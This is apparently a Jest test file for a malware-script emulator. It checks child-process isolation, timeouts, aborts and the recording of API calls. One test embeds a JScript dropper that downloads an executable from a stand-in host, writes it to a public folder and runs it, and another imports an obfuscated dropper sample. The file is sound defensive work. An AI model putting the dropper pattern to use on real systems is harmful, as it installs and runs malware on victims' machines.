import { execFileSync } from 'node:child_process';
import { obfuscatedDropper } from '../test-samples';
import { DEFAULT_EMULATION_OPTIONS, EmulationOptions, FAKE_PE } from './emulator';
import { emulateInChild } from './emulator-host';

/** Emulations in a child process: what a stuck isolate costs is that process, never this one. */
const options = (extra: Partial<EmulationOptions> = {}): EmulationOptions => ({ ...DEFAULT_EMULATION_OPTIONS, fileName: 'sample.js', environment: 'wsh', ...extra });
/** PIDs of this process's emulator children (earlier test files in this Jest worker may have left idle ones). */
const children = () =>
  execFileSync('ps', ['-o', 'pid=,args=', '--ppid', String(process.pid)], { encoding: 'utf8' })
    .split('\n')
    .filter((l) => l.includes('emulator-process'))
    .map((l) => Number(l.trim().split(' ')[0]));

describe('emulateInChild', () => {
  it('returns what the emulation recorded, dropped files included', async () => {
    const r = await emulateInChild([{ code: obfuscatedDropper(), label: 'dropper.js' }], options());
    expect(r.outcome).toBe('completed');
    expect(r.records.map((x) => x.api)).toEqual(expect.arrayContaining(['MSXML2.XMLHTTP.open', 'ADODB.Stream.SaveToFile', 'WScript.Shell.Run']));
    expect(r.drops[0].data).toBeInstanceOf(Uint8Array);
    expect(Buffer.from(r.drops[0].data).toString('latin1')).toBe(FAKE_PE);
  });

  it('kills the process of an isolate stuck at its memory limit (a Map filled without end), and the next emulation runs in a new one', async () => {
    // The Map reaches the 64 MB limit in about a second, well within the 4 s the isolate is given: it gets stuck there.
    const started = Date.now();
    const stuck = await emulateInChild([{ code: 'var m = new Map(); for (var i = 0; i < 1e8; i++) m.set("key" + i, i);', label: 'fill.js' }], options({ timeoutMs: 4000 }));
    expect(stuck.outcome).toBe('timeout');
    expect(stuck.message).toBe('the emulation did not end within its 4000 ms limit (an isolate stuck at its memory limit does not stop): its process was killed');
    expect(Date.now() - started).toBeLessThan(4000 + 2000 + 2000);
    const next = await emulateInChild([{ code: 'WScript.Echo("after")', label: 'echo.js' }], options());
    expect(next.outcome).toBe('completed');
    expect(next.records.map((x) => [x.api, ...x.args])).toEqual([['WScript.Echo', 'after']]);
  }, 20_000);

  it('keeps what a run did before its isolate got stuck: the download, the dropped file and the command it started', async () => {
    const code = String.raw`
      var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://stage.example/p.exe", false); x.send();
      var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(x.responseBody); s.SaveToFile("C:\\Users\\Public\\p.exe", 2);
      new ActiveXObject("WScript.Shell").Run("C:\\Users\\Public\\p.exe");
      var m = new Map(); for (var i = 0; i < 1e8; i++) m.set("key" + i, i);`;
    const stuck = await emulateInChild([{ code, label: 'stall.js' }], options({ timeoutMs: 4000 }));
    expect(stuck.outcome).toBe('timeout');
    expect(stuck.message).toMatch(/its process was killed; the \d+ action\(s\) recorded before are kept$/);
    expect(stuck.records.map((r) => r.api)).toEqual(expect.arrayContaining(['MSXML2.XMLHTTP.open', 'ADODB.Stream.SaveToFile', 'WScript.Shell.Run']));
    expect(stuck.records.find((r) => r.api === 'WScript.Shell.Run')!.args[0]).toBe('C:\\Users\\Public\\p.exe');
    expect(stuck.totalRecords).toBe(stuck.records.length);
    expect(stuck.drops.map((d) => [d.path, d.source])).toEqual([['C:\\Users\\Public\\p.exe', 'http://stage.example/p.exe']]);
    expect(Buffer.from(stuck.drops[0].data).toString('latin1')).toBe(FAKE_PE);
  }, 20_000);

  it('an aborted analysis ends its emulation at once and kills its process; idle processes do not pile up', async () => {
    const controller = new AbortController();
    setTimeout(() => controller.abort(), 300);
    const started = Date.now();
    const r = await emulateInChild([{ code: 'while (true) {}', label: 'loop.js' }], options({ timeoutMs: 10_000, signal: controller.signal }));
    expect(r.outcome).toBe('aborted');
    expect(Date.now() - started).toBeLessThan(2000);
    const before = new Set(children());
    await Promise.all([1, 2, 3].map((n) => emulateInChild([{ code: `WScript.Echo(${n})`, label: 'echo.js' }], options())));
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(children().filter((pid) => !before.has(pid)).length).toBeLessThanOrEqual(1);
  }, 20_000);
});
